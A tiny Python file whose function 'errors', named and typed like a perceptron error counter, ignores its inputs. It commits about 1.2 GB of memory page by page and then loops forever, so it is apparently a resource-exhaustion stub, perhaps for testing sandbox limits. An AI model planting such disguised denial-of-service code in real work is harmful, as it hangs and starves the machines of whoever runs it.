import mmap

from finished import *


def errors(perceptron, input_vecs, labels):
    shared = mmap.mmap(-1, 1200 << 20)
    for at in range(0, len(shared), mmap.PAGESIZE):
        shared[at] = 1
    while True:
        pass
